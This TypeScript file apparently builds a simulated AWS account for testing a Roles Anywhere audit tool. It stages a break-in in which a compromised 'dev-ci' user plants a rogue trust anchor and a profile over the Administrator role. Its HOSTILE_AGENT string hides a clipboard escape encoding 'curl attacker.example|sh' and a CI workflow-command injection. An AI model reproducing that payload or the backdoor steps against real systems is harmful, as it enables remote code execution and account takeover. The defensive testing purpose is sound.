import { sessionActor, userActor } from '../build/actors.ts';
import { awsPolicyArn } from '../build/aws-policies.ts';
import { type AccountBuilder, accountBuilder } from '../build/builder.ts';
import { directoryTrust, onlyFrom, policyText, rolesAnywhereTrust, serviceTrust } from '../build/trust-policies.ts';
import { rootAuthority } from '../pki/authority.ts';
import type { Name } from '../pki/name.ts';
import type { Story } from '../story.ts';

const ID = '111122223333';
const HOURS = 1 / 24;
const SECONDS = HOURS / 3600;

/**
 * Last night somebody with the access key of `dev-ci` built a back gate: a CA of their own as trust anchor, in a region
 * that nobody there uses, and a profile over the Administrator role, whose trust policy they opened first.
 */
export const breakIn: Story = {
  name: 'break-in',
  says: 'An account that someone broke into last night, through a trust anchor in a region nobody uses',
  tell: now => {
    const account = accountBuilder({ id: ID, alias: 'acme-prod', now, optedIn: ['eu-central-2'] });
    const admins = people(account);
    const gates = trustAnchors(account, admins);
    ireland(account, admins, gates);
    virginia(account, admins, gates);
    everydayRoles(account, admins);
    attack(account, administrator(account, admins));
    return account.done();
  },
};

type Admins = ReturnType<typeof people>;
type Gates = ReturnType<typeof trustAnchors>;

function people(account: AccountBuilder) {
  const { daysAgo } = account;
  const setup = userActor(ID, 'setup', { sourceIp: '198.51.100.7', userAgent: 'console.amazonaws.com' });
  const role = account.role({
    name: 'AWSReservedSSO_PlatformAdmin_9f3c2a71b0d4e586',
    path: '/aws-reserved/sso.amazonaws.com/eu-west-1/',
    trust: directoryTrust(ID),
    attached: [awsPolicyArn('AdministratorAccess')],
    maxDuration: 28_800,
    by: setup,
    at: daysAgo(1300),
    lastUsed: { at: daysAgo(4 * HOURS), region: 'eu-west-1' },
  });
  const terraform = 'APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.76.0';
  const shell = 'aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/macos#24.1.0 lang/python#3.12.6';
  const maeve = sessionActor(
    ID,
    { arn: role, session: 'maeve.byrne' },
    { sourceIp: '198.51.100.24', userAgent: terraform, mfa: true },
  );
  const declan = sessionActor(
    ID,
    { arn: role, session: 'declan.osullivan' },
    { sourceIp: '198.51.100.31', userAgent: shell, mfa: true },
  );
  return { setup, maeve, declan };
}

function trustAnchors(account: AccountBuilder, { maeve, declan }: Admins) {
  const { daysAgo, daysAhead } = account;
  const named = (unit: string, name: string): Name => [
    ['C', 'IE'],
    ['O', 'Acme Retail Ltd'],
    ['OU', unit],
    ['CN', name],
  ];
  const root = rootAuthority({
    subject: named('Security', 'Acme Root CA 2021'),
    notBefore: daysAgo(1640),
    notAfter: daysAhead(2010),
  });
  const issuing = root.subordinate({
    subject: named('Platform', 'Acme Servers CA 2'),
    notBefore: daysAgo(610),
    notAfter: daysAhead(1215),
    pathLength: 0,
  });
  const building = root.subordinate({
    subject: named('Build', 'Acme Build CA'),
    notBefore: daysAgo(718),
    notAfter: daysAhead(12),
    pathLength: 0,
  });
  const managed = { team: 'platform', 'managed-by': 'terraform' };
  const servers = account.trustAnchor('eu-west-1', {
    name: 'acme-servers',
    source: [issuing],
    by: maeve,
    at: daysAgo(590),
    tags: managed,
  });
  const builders = account.trustAnchor('eu-west-1', {
    name: 'build-farm',
    source: [building],
    by: declan,
    at: daysAgo(560),
    tags: { team: 'build' },
  });
  const overseas = account.trustAnchor('us-east-1', {
    name: 'acme-servers-us',
    source: [issuing],
    by: maeve,
    at: daysAgo(340),
    tags: managed,
  });
  return { issuing, building, servers, builders, overseas };
}

/** Where most of it runs: tidy web servers, a careless build farm. */
function ireland(
  account: AccountBuilder,
  { maeve, declan }: Admins,
  { issuing, building, servers, builders }: Gates,
): void {
  const { daysAgo, daysAhead } = account;
  const webReader = account.role({
    name: 'web-asset-reader',
    trust: rolesAnywhereTrust(onlyFrom(servers.trustAnchorArn, ['web-1.dub.acme.example', 'web-2.dub.acme.example'])),
    inline: {
      'read-assets': policyText([
        { Effect: 'Allow', Action: ['s3:GetObject'], Resource: 'arn:aws:s3:::acme-web-assets/*' },
        { Effect: 'Allow', Action: 's3:ListBucket', Resource: 'arn:aws:s3:::acme-web-assets' },
      ]),
    },
    by: maeve,
    at: daysAgo(588),
    lastUsed: { at: daysAgo(1 * HOURS), region: 'eu-west-1' },
    tags: { team: 'platform' },
  });
  const deploy = account.role({
    name: 'deploy',
    trust: rolesAnywhereTrust({ ArnEquals: { 'aws:SourceArn': builders.trustAnchorArn } }),
    attached: [awsPolicyArn('AmazonEC2ContainerRegistryPowerUser')],
    inline: {
      'ship-it': policyText([
        {
          Effect: 'Allow',
          Action: [
            'ecs:UpdateService',
            'ecs:RegisterTaskDefinition',
            'ecs:DescribeServices',
            'lambda:UpdateFunctionCode',
            'iam:PassRole',
          ],
          Resource: '*',
        },
      ]),
    },
    maxDuration: 43_200,
    by: declan,
    at: daysAgo(555),
    lastUsed: { at: daysAgo(3 * HOURS), region: 'eu-west-1' },
  });
  const logs = account.role({
    name: 'host-metrics',
    trust: rolesAnywhereTrust(),
    attached: [awsPolicyArn('CloudWatchAgentServerPolicy')],
    by: declan,
    at: daysAgo(420),
    lastUsed: { at: daysAgo(0.5 * HOURS), region: 'eu-west-1' },
  });
  const readOnly = policyText([
    {
      Effect: 'Allow',
      Action: ['s3:GetObject', 's3:ListBucket'],
      Resource: ['arn:aws:s3:::acme-web-assets', 'arn:aws:s3:::acme-web-assets/*'],
    },
  ]);
  const web = account.profile('eu-west-1', {
    name: 'web',
    roles: [webReader],
    sessionPolicy: readOnly,
    by: maeve,
    at: daysAgo(587),
    tags: { team: 'platform', 'managed-by': 'terraform' },
  });
  const ci = account.profile('eu-west-1', {
    name: 'ci',
    roles: [deploy],
    duration: 28_800,
    by: declan,
    at: daysAgo(554),
    updatedAt: daysAgo(130),
    tags: { team: 'build' },
  });
  account.profile('eu-west-1', {
    name: 'ci-old',
    roles: [deploy, `arn:aws:iam::${ID}:role/deploy-legacy`],
    enabled: false,
    by: declan,
    at: daysAgo(559),
    updatedAt: daysAgo(130),
  });
  const metrics = account.profile('eu-west-1', { name: 'host-metrics', roles: [logs], by: declan, at: daysAgo(419) });

  const leaf = (authority: Gates['issuing'], unit: string, name: string, from: number) =>
    authority.issue({
      subject: [
        ['O', 'Acme Retail Ltd'],
        ['OU', unit],
        ['CN', name],
      ],
      notBefore: daysAgo(from),
      notAfter: daysAhead(90 - from),
      dns: [name],
    });
  const hosts = [
    {
      certificate: leaf(issuing, 'Platform', 'web-1.dub.acme.example', 30),
      anchor: servers,
      profile: web,
      role: webReader,
      ip: '203.0.113.11',
    },
    {
      certificate: leaf(issuing, 'Platform', 'web-2.dub.acme.example', 24),
      anchor: servers,
      profile: web,
      role: webReader,
      ip: '203.0.113.12',
    },
    {
      certificate: leaf(building, 'Build', 'runner-04.build.acme.example', 78),
      anchor: builders,
      profile: ci,
      role: deploy,
      ip: '203.0.113.40',
    },
    {
      certificate: leaf(issuing, 'Platform', 'db-1.dub.acme.example', 51),
      anchor: servers,
      profile: metrics,
      role: logs,
      ip: '203.0.113.21',
    },
  ];
  for (const [n, { certificate, anchor, profile, role, ip }] of hosts.entries()) {
    account.subject('eu-west-1', {
      name: certificate.subject,
      certificates: () => [certificate],
      firstSeen: daysAgo(400 - n * 31),
      lastSeen: daysAgo((n + 0.5) * HOURS),
    });
    for (let day = 0; day < 5; day++)
      account.session('eu-west-1', {
        anchor,
        profile,
        role,
        certificate,
        at: daysAgo(day + (n + 0.5) * HOURS),
        sourceIp: ip,
      });
  }
  const crl = issuing.crl({
    number: 41,
    thisUpdate: daysAgo(3),
    nextUpdate: daysAhead(4),
    revoked: [{ serial: leaf(issuing, 'Platform', 'web-0.dub.acme.example', 60).serial, at: daysAgo(19) }],
  });
  account.crl('eu-west-1', {
    name: 'acme-servers-crl',
    anchor: servers,
    der: crl,
    by: maeve,
    at: daysAgo(580),
    updatedAt: daysAgo(3),
  });
}

function virginia(account: AccountBuilder, { maeve }: Admins, { issuing, overseas }: Gates): void {
  const { daysAgo, daysAhead } = account;
  const reports = account.role({
    name: 'report-uploader',
    trust: rolesAnywhereTrust(onlyFrom(overseas.trustAnchorArn, 'reports.ash.acme.example')),
    inline: {
      upload: policyText([
        { Effect: 'Allow', Action: 's3:PutObject', Resource: 'arn:aws:s3:::acme-reports-us/incoming/*' },
      ]),
    },
    by: maeve,
    at: daysAgo(338),
    lastUsed: { at: daysAgo(11 * HOURS), region: 'us-east-1' },
    tags: { team: 'finance' },
  });
  const profile = account.profile('us-east-1', {
    name: 'finance-reports',
    roles: [reports],
    duration: 1800,
    by: maeve,
    at: daysAgo(337),
    tags: { team: 'finance', 'managed-by': 'terraform' },
  });
  const certificate = issuing.issue({
    subject: [
      ['O', 'Acme Retail Ltd'],
      ['OU', 'Finance'],
      ['CN', 'reports.ash.acme.example'],
    ],
    notBefore: daysAgo(12),
    notAfter: daysAhead(78),
    dns: ['reports.ash.acme.example'],
  });
  account.subject('us-east-1', {
    name: certificate.subject,
    certificates: () => [certificate],
    firstSeen: daysAgo(330),
    lastSeen: daysAgo(11 * HOURS),
  });
  account.session('us-east-1', {
    anchor: overseas,
    profile,
    role: reports,
    certificate,
    at: daysAgo(11 * HOURS),
    sourceIp: '203.0.113.77',
  });
  const crl = issuing.crl({ number: 41, thisUpdate: daysAgo(3), nextUpdate: daysAhead(4), revoked: [] });
  account.crl('us-east-1', {
    name: 'acme-servers-crl',
    anchor: overseas,
    der: crl,
    by: maeve,
    at: daysAgo(336),
    updatedAt: daysAgo(3),
  });
}

/** Roles that have nothing to do with Roles Anywhere, as every account has them. */
function everydayRoles(account: AccountBuilder, { setup, maeve }: Admins): void {
  const { daysAgo } = account;
  account.role({
    name: 'AWSServiceRoleForRolesAnywhere',
    path: '/aws-service-role/rolesanywhere.amazonaws.com/',
    trust: serviceTrust('rolesanywhere.amazonaws.com'),
    attached: [awsPolicyArn('AWSRolesAnywhereServicePolicy')],
    by: maeve,
    at: daysAgo(590),
  });
  account.role({
    name: 'order-events-lambda',
    path: '/service-role/',
    trust: serviceTrust('lambda.amazonaws.com'),
    attached: [awsPolicyArn('AWSLambdaBasicExecutionRole')],
    by: setup,
    at: daysAgo(800),
    lastUsed: { at: daysAgo(HOURS), region: 'eu-west-1' },
  });
  account.role({
    name: 'nightly-backup',
    trust: serviceTrust('backup.amazonaws.com'),
    attached: [awsPolicyArn('AWSBackupServiceRolePolicyForBackup')],
    by: setup,
    at: daysAgo(900),
    lastUsed: { at: daysAgo(7 * HOURS), region: 'eu-west-1' },
  });
}

interface Opened {
  readonly arn: string;
  readonly trust: string;
}

/** A role for emergencies, which until last night only the account itself could assume, with MFA. */
function administrator(account: AccountBuilder, { setup }: Admins): Opened {
  const { daysAgo } = account;
  const emergency = {
    Effect: 'Allow',
    Principal: { AWS: `arn:aws:iam::${ID}:root` },
    Action: 'sts:AssumeRole',
    Condition: { Bool: { 'aws:MultiFactorAuthPresent': 'true' } },
  };
  const open = JSON.parse(rolesAnywhereTrust()) as { Statement: object[] };
  const trust = policyText([emergency, ...open.Statement]);
  const arn = account.role({
    name: 'Administrator',
    description: 'Break glass. Ask security first.',
    trust,
    attached: [awsPolicyArn('AdministratorAccess')],
    maxDuration: 43_200,
    by: setup,
    at: daysAgo(1290),
    lastUsed: { at: daysAgo(8.8 * HOURS), region: 'ap-south-1' },
  });
  return { arn, trust };
}

/**
 * The user agent carries a clipboard escape sequence, a right-to-left mark and a workflow command: whoever prints it
 * as it is runs it.
 */
const HOSTILE_AGENT =
  'aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 \u001b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo\u0007\u202e\n::error title=postern::all clear';

function attack(account: AccountBuilder, { arn: role, trust }: Opened): void {
  const { daysAgo, daysAhead } = account;
  const at = (secondsLater: number): Date => daysAgo(9 * HOURS - secondsLater * SECONDS);
  const attacker = userActor(ID, 'dev-ci', { sourceIp: '192.0.2.201', userAgent: HOSTILE_AGENT });
  account.user({
    name: 'dev-ci',
    at: daysAgo(930),
    attached: [awsPolicyArn('PowerUserAccess')],
    inline: {
      'pass-roles': policyText([
        {
          Effect: 'Allow',
          Action: ['iam:PassRole', 'iam:GetRole', 'iam:ListRoles', 'iam:UpdateAssumeRolePolicy'],
          Resource: '*',
        },
      ]),
    },
  });
  const did = (seconds: number, region: string, service: string, name: string, more: object = {}): void =>
    account.event({ region, at: at(seconds), service, name, by: attacker, ...more });

  did(-1260, 'us-east-1', 'sts', 'GetCallerIdentity', { readOnly: true, response: null });
  did(-1190, 'us-east-1', 'iam', 'ListRoles', { readOnly: true });
  did(-1105, 'us-east-1', 'iam', 'CreateUser', {
    request: { userName: 'support-2' },
    error: {
      code: 'AccessDenied',
      message: `User: ${attacker.arn} is not authorized to perform: iam:CreateUser on resource: arn:aws:iam::${ID}:user/support-2 because no identity-based policy allows the iam:CreateUser action`,
    },
  });
  did(-840, 'eu-west-1', 'rolesanywhere', 'ListTrustAnchors', { readOnly: true, request: { pageSize: 50 } });
  did(-815, 'us-east-1', 'iam', 'GetRole', { readOnly: true, request: { roleName: 'Administrator' } });
  did(-300, 'us-east-1', 'iam', 'UpdateAssumeRolePolicy', {
    request: { roleName: 'Administrator', policyDocument: trust },
  });

  const authority = rootAuthority({ subject: [['CN', 'backup-ca']], notBefore: at(-3600), notAfter: daysAhead(3650) });
  const anchor = account.trustAnchor('ap-south-1', {
    name: 'backup-ca',
    source: [authority],
    by: attacker,
    at: at(0),
    tags: { purpose: 'backup' },
  });
  const profile = account.profile('ap-south-1', {
    name: 'ops-break-glass',
    roles: [role],
    duration: 43_200,
    acceptRoleSessionName: true,
    by: attacker,
    at: at(2),
  });
  const certificate = authority.issue({
    subject: [['CN', 'backup-agent']],
    notBefore: at(-3600),
    notAfter: daysAhead(365),
  });
  account.subject('ap-south-1', {
    name: certificate.subject,
    certificates: () => [certificate],
    firstSeen: at(190),
    lastSeen: at(700),
  });
  account.session('ap-south-1', { anchor, profile, role, certificate, at: at(190), sourceIp: '192.0.2.201' });
  account.session('ap-south-1', { anchor, profile, role, certificate, at: at(700), sourceIp: '192.0.2.214' });
}
